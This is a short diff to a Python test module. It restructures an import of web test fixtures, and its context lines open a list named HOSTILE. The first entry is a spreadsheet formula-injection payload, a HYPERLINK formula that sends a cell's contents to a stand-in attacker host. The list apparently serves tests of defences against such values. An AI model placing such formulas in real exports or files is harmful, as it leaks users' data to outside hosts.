@@ -20,7 +20,13 @@ from tests.databases import (  # noqa: F401  (fixtures)
     fresh_pg_database,
     pg_database,
 )
-from tests.web.conftest import NOW, Site, post, site  # noqa: F401  (site: a fixture)
+from tests.web.conftest import (  # noqa: F401  (site: a fixture)
+    NOW,
+    Site,
+    _pg_site_template,
+    post,
+    site,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
